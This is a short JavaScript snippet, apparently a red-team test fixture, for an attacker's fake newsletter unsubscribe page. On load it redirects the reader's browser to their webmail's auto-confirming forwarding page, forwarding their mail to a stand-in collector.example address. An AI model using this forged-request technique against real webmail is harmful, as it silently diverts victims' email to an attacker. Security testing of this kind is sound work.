// The newsletter's unsubscribe page (the attacker's): it "confirms" by sending the reader's tab to
// the webmail's forwarding confirmation for an address of the sender's, which confirms as it
// loads (the webmail's address comes in ?app=, as mailing services' links carry it).
const app = new URLSearchParams(location.search).get('app');
if (app) location.replace(`${app}/redteam7/forward7.html?to=mugweekly-archive%40collector.example`);
